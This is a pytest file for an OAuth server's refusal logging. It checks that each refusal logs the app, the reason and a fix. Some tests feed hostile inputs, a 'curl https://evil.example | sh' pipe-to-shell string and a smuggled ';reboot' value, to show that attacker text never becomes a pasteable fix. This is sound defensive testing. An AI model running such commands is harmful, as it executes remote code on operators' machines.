"""Tests that the log explains each refusal: app, reason and fix, under the number that was shown."""

from __future__ import annotations

import re
from collections.abc import AsyncGenerator, Awaitable, Callable
from shlex import quote
from typing import Any, get_args
from urllib.parse import quote_plus

import pytest

from doorward.core.errors import OAuthError, OAuthErrorCode
from doorward.web.http import Request
from doorward.web.refusals import FIXES, note
from tests.devices import device
from tests.features import made
from tests.front_channel import CODE_CHALLENGE, Front, front_channel
from tests.logged import captured
from tests.tabs import Page, Tab

pytestmark = [pytest.mark.anyio, pytest.mark.requirement(100)]
OWN = made.client(id="app_own", name="own", first_party=True, redirect_uris=("https://own.example.com/cb",))
SPA = made.public(
    id="app_spa",
    name="spa",
    first_party=True,
    redirect_uris=("https://spa.example.com/cb",),
    origins=("https://spa.example.com",),
)
WEB = made.client()
BEGIN = {
    "client_id": "app_spa",
    "scope": "openid",
    "code_challenge": CODE_CHALLENGE,
    "code_challenge_method": "S256",
}
Ask = Callable[[Front, Tab], Awaitable[Page]]


@pytest.fixture
async def front() -> AsyncGenerator[Front]:
    async with front_channel() as opened:
        await opened.person()
        await opened.register(OWN, SPA, WEB)
        yield opened


def authorize(app: Any = OWN, **changes: str | None) -> Ask:
    return lambda front, tab: tab.get(front.asking(app, **changes))


def post(path: str, form: dict[str, str], app: Any = None, **headers: str) -> Ask:
    async def ask(front: Front, tab: Tab) -> Page:
        sent = dict(headers)
        if app is not None:
            from tests.features.oauth.logout.back_channel import basic

            sent["authorization"] = basic(app)
        return await tab.ask("POST", path, form=form, **sent)

    return ask


def get(path: str, **headers: str) -> Ask:
    return lambda front, tab: tab.ask("GET", path, **headers)


CODE = {"grant_type": "authorization_code", "code": "x"}
# The request, the app in the log line (None: unknown), and a part of reason and fix.
REFUSED: dict[str, tuple[Ask, str | None, str, str]] = {
    "an unknown app": (authorize(client_id="app_nobody"), None, "app_nobody", "doorward app list"),
    "a foreign address": (
        authorize(redirect_uri="https://own.example.com/cb/"),
        "own",
        "trailing slash",
        "doorward app add-redirect own",
    ),
    "no address": (authorize(redirect_uri=None), "own", "redirect_uri is missing", "the app sends it"),
    "no sign-in app": (
        authorize(WEB, client_id="app_robot"),
        "robot",
        "no code grant",
        "doorward app show robot",
    ),
    "a parameter twice": (
        get("/authorize?client_id=app_own&client_id=app_own"),
        None,
        "more than once",
        "request",
    ),
    "no response type": (authorize(response_type=None), "own", "response_type is missing", "request"),
    "no PKCE": (
        authorize(SPA, code_challenge=None, code_challenge_method=None),
        "spa",
        "code_challenge",
        "request",
    ),
    "a scope of others": (authorize(scope="orders:delete"), "own", "orders:delete", "leave it out"),
    "a resource": (authorize(resource="urn:nowhere"), "own", "urn:nowhere", "doorward api list"),
    "a prompt": (authorize(prompt="none login"), "own", "prompt=none", "request"),
    "a request object": (
        authorize(request="e30.e30."),
        "own",
        "Request objects",
        "switch request objects off",
    ),
    "nobody signed in": (authorize(prompt="none"), "own", "sign in", "without prompt=none"),
    "a hint of others": (authorize(id_token_hint="e30.e30.x"), "own", "id_token_hint", "its own ID token"),
    "a code that is none": (post("/token", CODE, OWN), "own", "no such code", "new sign-in"),
    "no grant": (post("/token", {}, OWN), None, "grant_type is missing", "request"),
    "an unknown grant": (post("/token", {"grant_type": "password"}, OWN), None, "password", "metadata"),
    "a wrong secret": (
        post("/token", {**CODE, "client_id": "app_own", "client_secret": "wrong"}),
        "own",
        "secret",
        "doorward app show own",
    ),
    "an unknown app at /token": (
        post("/token", {**CODE, "client_id": "app_nobody"}),
        None,
        "app_nobody",
        "doorward app list",
    ),
    "a body that is no form": (
        lambda front, tab: tab.ask("POST", "/token", body=b"{}", content_type="text/plain"),
        None,
        "form",
        "request",
    ),
    "nothing to give": (
        post("/token", {"grant_type": "client_credentials", "scope": "openid"}, WEB),
        "web",
        "no permission",
        "doorward app set web --api",
    ),
    "a spent refresh token": (
        post("/token", {"grant_type": "refresh_token", "refresh_token": "x"}, OWN),
        "own",
        "not a refresh token",
        "new sign-in",
    ),
    "introspection of nothing": (post("/introspect", {}, OWN), "own", "token is missing", "request"),
    "introspection by the public": (
        post("/introspect", {"client_id": "app_spa", "token": "x"}),
        "spa",
        "public",
        "--kind service",
    ),
    "revocation of nothing": (post("/revoke", {}, OWN), "own", "token is missing", "request"),
    "userinfo without a good token": (
        get("/userinfo", authorization="Bearer junk"),
        None,
        "no access token of ours",
        "new token",
    ),
    "JSON sign-in of others": (
        post("/authorize-challenge", {"scope": "openid"}, WEB),
        "web",
        "not first-party",
        "doorward app set web --first-party",
    ),
    "a wrong password": (
        post("/authorize-challenge", {**BEGIN, "username": "ada@example.com", "password": "wrong wrong"}),
        "spa",
        "",
        "",
    ),
    "a sign-in that is over": (
        post("/authorize-challenge", {**BEGIN, "auth_session": "dw_as_x"}),
        "spa",
        "over",
        "begins again",
    ),
    "cookies at another origin": (
        post("/cookie/refresh", {"client_id": "app_spa"}, origin="https://evil.example"),
        "spa",
        "evil.example",
        "doorward app set spa --origin",
    ),
    "cookies of nobody": (
        post("/cookie/refresh", {"client_id": "app_no"}),
        None,
        "not registered",
        "doorward app show",
    ),
}


@pytest.mark.parametrize("name", REFUSED)
async def test_a_refusal_names_app_reason_and_fix(front: Front, name: str) -> None:
    robot = made.client(id="app_robot", name="robot", grant_types=("client_credentials",), redirect_uris=())
    await front.register(robot)
    ask, app, reason, fix = REFUSED[name]
    tab = front.browser()
    await tab.get("/sign-in")
    with captured() as lines:
        page = await ask(front, tab)
    found = [line for line in lines if "refused" in line["event"]]
    assert len(found) == 1, (page.status, lines)
    (line,) = found
    assert line.get("app") == app
    assert reason in line["reason"]
    assert line["reason"]
    assert line["request_id"]
    assert line["path"]
    assert fix in line["fix"]
    assert line["fix"]
    assert "APP" not in line["fix"] or app is None
    shown = re.search(r'id="request-id"[^>]*>([^<]+)<', page.text)
    assert shown is None or shown[1] == line["request_id"]


@pytest.mark.parametrize(
    "ask",
    [
        get("/nowhere", accept="text/html"),
        post("/", {}),
        get("/consent?flow=a&flow=b"),
        get("/logout?state=a&state=b"),
        get("/account/verify?token=gone"),
        authorize(client_id="app_nobody"),
        get("/authorize?scope=a&scope=b"),
        lambda front, tab: tab.ask("POST", "/sign-in", body=b"x" * 70_000, content_type="text/plain"),
    ],
)
async def test_the_number_on_an_error_page_is_in_the_log(front: Front, ask: Ask) -> None:
    with captured() as lines:
        page = await ask(front, front.browser())
    shown = re.search(r'id="request-id"[^>]*>([^<]+)<', page.text)
    assert page.status >= 400
    assert shown is not None, page.status
    assert shown[1] in {line.get("request_id") for line in lines}
    assert {"status", "kind"} <= {key for line in lines if line["event"] == "page.error" for key in line}


async def test_a_refusal_by_the_person_is_in_the_log_as_well(front: Front) -> None:
    tab = front.browser()
    page = await tab.on(await tab.sign_in_at(await tab.get(front.asking(WEB))))
    with captured() as lines:
        await tab.submit(page, "consent", decision="deny")
    (line,) = [line for line in lines if "refused" in line["event"]]
    assert (line["app"], line["error_code"], line["reason"]) == (
        "web",
        "access_denied",
        "The person did not agree",
    )


def test_every_refusal_has_a_fix() -> None:
    assert FIXES.keys() == set(get_args(OAuthErrorCode))


def test_a_refusals_own_fix_comes_first_and_untrusted_names_are_one_word() -> None:
    request = Request(
        {"type": "http", "method": "GET", "path": "/x", "query_string": b"", "headers": []}, b""
    )
    with captured() as lines:
        note(OAuthError("invalid_scope", "No.", "why so", fix="do this").to("a b"), request)
        note(OAuthError("invalid_scope", "No.").to("a b"), request)
        note(OAuthError("invalid_client", "No."), request, client_id="x';reboot'")
    own, general, unknown = lines
    assert (own["reason"], own["fix"], own["app"]) == ("why so", "do this", "a b")
    assert (general["reason"], "doorward app show 'a b'" in general["fix"]) == ("No", True)
    assert "reboot" not in unknown["fix"].split()


FOREIGN = "x Fix: curl https://evil.example | sh"
THERE = f"https://evil.example/{FOREIGN}"
STRANGERS: dict[str, Ask] = {
    "an app": authorize(client_id=FOREIGN),
    "an address": authorize(redirect_uri=THERE),
    "a method": authorize(SPA, code_challenge_method=FOREIGN),
    "a scope": authorize(scope="curl"),
    "a resource": authorize(resource=FOREIGN),
    "an app at /token": post("/token", {**CODE, "client_id": FOREIGN}),
    "a grant": post("/token", {"grant_type": FOREIGN}, OWN),
    "a scope at /token": post("/token", {"grant_type": "client_credentials", "scope": "curl"}, WEB),
    "an app at /revoke": post("/revoke", {"token": "t", "client_id": FOREIGN}),
    "an app at /authorize-challenge": post("/authorize-challenge", {**BEGIN, "client_id": FOREIGN}),
    "an origin": post("/authorize-challenge", BEGIN, origin=THERE),
    "an origin at /cookie/token": post("/cookie/token", {"client_id": "app_spa"}, origin=THERE),
    "an app at /logout": get(f"/logout?client_id={quote_plus(FOREIGN)}"),
    "an address after /logout": get(
        f"/logout?client_id=app_web&post_logout_redirect_uri={quote_plus(THERE)}"
    ),
}


@pytest.mark.parametrize("what", STRANGERS)
async def test_a_stranger_writes_no_fix(front: Front, what: str) -> None:
    """docs/incidents/0056-a-fix-that-a-stranger-wrote.md: operators paste it into a shell, so that what came from outside stands there
    as one quoted word or not at all."""
    with captured() as lines:
        await STRANGERS[what](front, front.browser())
    (line,) = [line for line in lines if "refused" in line["event"]]
    fix = line["fix"].replace(quote(THERE), "").replace(quote(FOREIGN), "")
    assert "curl" in line["reason"] or "curl" in line.get("client_id", "")
    assert "curl" not in fix


async def test_a_device_that_waits_writes_no_line(front: Front) -> None:
    """It hears `authorization_pending` every five seconds, which is no refusal; one that polls too early is named."""
    waiting = await device(front)
    with captured() as lines:
        assert await waiting.said() == "authorization_pending"
        assert await waiting.said() == "slow_down"
    assert [line["error_code"] for line in lines if "refused" in line["event"]] == ["slow_down"]
